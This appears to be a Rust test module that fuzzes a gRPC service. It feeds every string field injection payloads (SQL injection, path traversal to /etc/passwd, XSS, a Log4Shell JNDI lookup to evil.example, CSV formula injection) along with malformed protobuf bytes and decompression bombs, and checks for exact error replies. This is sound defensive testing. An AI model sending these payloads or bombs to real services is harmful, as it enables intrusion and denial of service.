//! Sends a service what only somebody hostile or broken sends, into every text of every request, and holds it to an exact answer.
//!
//! What the answer must be comes from the contract: a text that the field's rules refuse is `INVALID_FIELDS` with the field; a field
//! that only the server sets is not heard, so the answer is that to the sample. Where neither says it, the table of the service does.

use prost::Message as _;
use prost_reflect::{DynamicMessage, FieldDescriptor, Kind, ReflectMessage as _, Value};
use tonic::{Status, transport::Channel};

use crate::{
    contract::{Rules, is_servers_own, method},
    errors::{details, told},
    raw,
    rules::{Sample, assert_complete},
};

/// Texts that have broken other systems. None is a UUID, a resource name or an e-mail address, or empty without its white space.
pub const TEXTS: &[&str] = &[
    "nul\0byte",
    "bell\u{7}",
    "escape\u{1b}[31m",
    "delete\u{7f}",
    "next\u{85}line",
    "header\r\nx-evil: 1",
    "tab\there",
    "\u{202e}override",
    "\u{2066}isolate",
    "שלום עולם",
    "مرحبا بالعالم",
    "e\u{301} and é",
    "Z\u{338}\u{356}\u{308}\u{301}a\u{334}l\u{334}g\u{335}o",
    "👨\u{200d}👩\u{200d}👧\u{200d}👦 🏴\u{e0067}\u{e0062}\u{e007f} ❤\u{fe0f}",
    "\u{feff}mark",
    "zero\u{200b}width",
    "not a character \u{ffff}\u{10ffff}",
    "private \u{e000}",
    "İstanbul ıI ǅ ß ﬃ",
    "line\u{2028}separator",
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "1) OR (1=1",
    "$1 $$ $tag$",
    "back\\slash \\' \\x00 \\u0000",
    "100% _ like%",
    "{\"a\":[1,",
    "\"},{\"",
    "null",
    "NaN",
    "-1",
    "a*b?",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "=cmd|' /C calc'!A0",
    "users/-",
];
/// Longer than any field may be, and shorter than what a port refuses to read.
const LONG_CHARACTERS: usize = 20_000;
/// Bytes that are no UTF-8: a surrogate alone, an overlong NUL, a cut-off character, a stray byte, a character beyond the last.
const NO_TEXTS: &[&[u8]] =
    &[b"\xed\xa0\x80aa", b"\xc0\x80aaa", b"aa\xf0\x9f\x98", b"aa\xffaa", b"a\xf4\x90\x80\x80"];
/// What stands where bytes that are no text are put.
const PLACE: &str = "#^~|@";
/// What is no part of any message: put behind one, it makes it none.
const DAMAGE: &[(&str, &[u8])] = &[
    ("a key that ends too soon", &[0x80]),
    ("a key too long", &[0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]),
    ("field 0", &[0x00, 0x00]),
    ("wire type 6", &[0x7e, 0x00]),
    ("wire type 7", &[0x7f, 0x00]),
    ("the end of a group that did not begin", &[0x7c]),
    ("a group that does not end", &[0x7b]),
    ("a group that ends as another", &[0x7b, 0x74]),
    ("a length beyond the end", &[0x7a, 0x7f, 0x00]),
    ("a length near 2^64", &[0x7a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]),
    ("a number that ends too soon", &[0x78, 0xff]),
    ("eight bytes of which six are missing", &[0x79, 0x01, 0x02]),
    ("four bytes of which three are missing", &[0x7d, 0x01]),
];
/// More than any port reads: as it is, and compressed to a thousandth.
const BOMB_BYTES: usize = 16 * 1024 * 1024;
/// As many fields as a message has room for, each of a number that no message here has.
const FIELDS: usize = 120_000;
const UNKNOWN_FIELD: &[u8] = &[0x78, 0x01];
/// Groups in groups, deeper than any decoder should follow.
const DEPTH: usize = 10_000;
const GROUP_BEGINS: u8 = 0x7b;
const GROUP_ENDS: u8 = 0x7c;

/// A request whose texts are replaced, one after the other.
#[derive(Debug)]
pub struct Hostile {
    sample: Sample,
    /// The reason that the sample is answered with; none: it succeeds.
    answer: Option<&'static str>,
    always: Vec<(&'static str, Option<&'static str>)>,
    where_allowed: Vec<(&'static str, Option<&'static str>)>,
}

impl Hostile {
    /// The sample is answered with the reason `answer`, as often as it is sent; none: it succeeds.
    pub fn new(sample: Sample, answer: Option<&'static str>) -> Self {
        Self { sample, answer, always: Vec::new(), where_allowed: Vec::new() }
    }

    /// Any hostile text in the field at `path` is answered with this reason, whatever the rules say.
    #[must_use]
    pub fn always(mut self, path: &'static str, reason: &'static str) -> Self {
        self.always.push((path, Some(reason)));
        self
    }

    /// A hostile text that the rules of the field at `path` allow is answered with this reason.
    #[must_use]
    pub fn where_allowed(mut self, path: &'static str, reason: &'static str) -> Self {
        self.where_allowed.push((path, Some(reason)));
        self
    }
}

/// A text of a request: the fields that lead to it, of which lists mean their first item.
struct Text {
    path: String,
    fields: Vec<FieldDescriptor>,
    is_servers_own: bool,
}

/// Sends every hostile text, and bytes that are no text, in every text of every request of `service`. Gives how many answers
/// were as expected.
pub async fn assert_hostile_texts(channel: &Channel, service: &str, requests: &[Hostile]) -> usize {
    let mut answers = 0;
    for request in requests {
        let sample = &request.sample.message;
        for text in texts_of(sample, None) {
            let long = "x".repeat(LONG_CHARACTERS);
            for hostile in TEXTS.iter().copied().chain([long.as_str()]) {
                let expected = request.expected(&text, hostile);
                let message = put(sample, &text.fields, hostile).encode_to_vec();
                request.assert_answer(channel, &text.path, hostile, message, expected).await;
                answers += 1;
            }
            for bytes in NO_TEXTS {
                let message = replaced(&put(sample, &text.fields, PLACE).encode_to_vec(), bytes);
                let expected = Some("MESSAGE_MALFORMED");
                request.assert_answer(channel, &text.path, "no UTF-8", message, expected).await;
                answers += 1;
            }
        }
    }
    eprintln!("{service}: {answers} hostile texts answered as they must be");
    answers
}

/// Sends messages that are none, for every RPC of `service`. Gives how many answers were as expected.
pub async fn assert_damaged(channel: &Channel, service: &str, requests: &[Hostile]) -> usize {
    assert_complete(service, requests.iter().map(|request| request.sample.rpc));
    let mut answers = 0;
    for request in requests {
        let deep = [vec![GROUP_BEGINS; DEPTH], vec![GROUP_ENDS; DEPTH]].concat();
        let damage = DAMAGE.iter().copied().chain([("groups in groups", deep.as_slice())]);
        for (what, bytes) in damage {
            let message = [request.sample.message.encode_to_vec().as_slice(), bytes].concat();
            request.assert_answer(channel, "", what, message, Some("MESSAGE_MALFORMED")).await;
            answers += 1;
        }
    }
    eprintln!("{service}: {answers} damaged messages answered as they must be");
    answers
}

/// Sends messages that take far more of whoever reads them than of their sender, for every RPC of `service`. Gives how many answers
/// were as expected.
pub async fn assert_bombs(channel: &Channel, service: &str, requests: &[Hostile]) -> usize {
    assert_complete(service, requests.iter().map(|request| request.sample.rpc));
    let zeros = vec![0; BOMB_BYTES];
    let mut answers = 0;
    for request in requests {
        let Sample { rpc, token, message } = &request.sample;
        let outcome = raw::call_compressed(channel, &method(rpc), token, zeros.clone()).await;
        let reason = outcome.as_ref().err().map(|status| told(status).1);
        assert_eq!(reason.as_deref(), Some("MESSAGE_TOO_LARGE"), "{rpc} decompressed: {outcome:?}");
        let many = [message.encode_to_vec(), UNKNOWN_FIELD.repeat(FIELDS)].concat();
        request.assert_answer(channel, "", "fields that nobody knows", many, request.answer).await;
        let too_large = Some("MESSAGE_TOO_LARGE");
        request.assert_answer(channel, "", "a large message", zeros.clone(), too_large).await;
        answers += 3;
    }
    eprintln!("{service}: {answers} bombs answered as they must be");
    answers
}

impl Hostile {
    fn expected(&self, text: &Text, hostile: &str) -> Option<&'static str> {
        let of = |table: &[(&str, Option<&'static str>)]| {
            table.iter().find(|row| row.0 == text.path).map(|row| row.1)
        };
        if let Some(answer) = of(&self.always) {
            return answer;
        }
        match text.fields.last().and_then(Rules::of) {
            Some(rules) => {
                let is_allowed = rules.of_item.as_deref().unwrap_or(&rules).allow_text(hostile);
                if is_allowed {
                    of(&self.where_allowed).unwrap_or(self.answer)
                } else {
                    Some("INVALID_FIELDS")
                }
            }
            None if text.is_servers_own => self.answer,
            None => panic!("{} {}: nothing says what becomes of it", self.sample.rpc, text.path),
        }
    }

    async fn assert_answer(
        &self,
        channel: &Channel,
        path: &str,
        what: &str,
        message: Vec<u8>,
        expected: Option<&str>,
    ) {
        let Sample { rpc, token, .. } = &self.sample;
        let outcome = raw::call(channel, &method(rpc), token, message).await;
        let reason = outcome.as_ref().err().map(|status| told(status).1);
        assert_eq!(reason.as_deref(), expected, "{rpc} {path} {what:?}: {outcome:?}");
        if let (Err(status), Some("INVALID_FIELDS")) = (&outcome, expected) {
            assert!(names(status, path), "{rpc} {path} {what:?}: {status:?}");
        }
    }
}

/// Whether an error names the field at `path`, what it is in, or what is in it.
fn names(status: &Status, path: &str) -> bool {
    let details = details(status);
    let violations = details.bad_request().map(|bad| bad.field_violations.as_slice()).unwrap_or_default();
    violations
        .iter()
        .any(|violation| path.starts_with(violation.field.as_str()) || violation.field.starts_with(path))
}

/// Every text of a message, those within its messages included.
fn texts_of(message: &DynamicMessage, above: Option<&Text>) -> Vec<Text> {
    let mut texts = Vec::new();
    for field in message.descriptor().fields() {
        let name = if field.is_list() && field.kind() != Kind::String {
            format!("{}[0]", field.name())
        } else {
            field.name().to_owned()
        };
        let text = Text {
            path: above.map_or_else(|| name.clone(), |above| format!("{}.{name}", above.path)),
            fields: above.iter().flat_map(|above| above.fields.clone()).chain([field.clone()]).collect(),
            is_servers_own: above.is_some_and(|above| above.is_servers_own) || is_servers_own(&field),
        };
        if field.kind() == Kind::String {
            texts.push(text);
        } else if let Some(within) = within(message, &field) {
            texts.extend(texts_of(&within, Some(&text)));
        }
    }
    texts
}

/// The message in a field, or the first of its list.
fn within(message: &DynamicMessage, field: &FieldDescriptor) -> Option<DynamicMessage> {
    let value = message.get_field(field);
    let first = value.as_list().and_then(|items| items.first());
    let inner = if field.is_list() { first } else { Some(&*value).filter(|_| message.has_field(field)) };
    inner?.as_message().cloned()
}

/// The message with another text.
fn put(message: &DynamicMessage, fields: &[FieldDescriptor], text: &str) -> DynamicMessage {
    let (field, rest) = fields.split_first().expect("a field");
    let value = if rest.is_empty() {
        Value::String(text.to_owned())
    } else {
        Value::Message(put(&within(message, field).expect("what leads to a text"), rest, text))
    };
    let mut changed = message.clone();
    changed.set_field(field, if field.is_list() { Value::List(vec![value]) } else { value });
    changed
}

/// The bytes with others in the place of [`PLACE`].
fn replaced(message: &[u8], bytes: &[u8]) -> Vec<u8> {
    assert_eq!(bytes.len(), PLACE.len(), "lengths stay true");
    let at = message.windows(PLACE.len()).position(|window| window == PLACE.as_bytes()).expect("the place");
    [&message[..at], bytes, &message[at + PLACE.len()..]].concat()
}
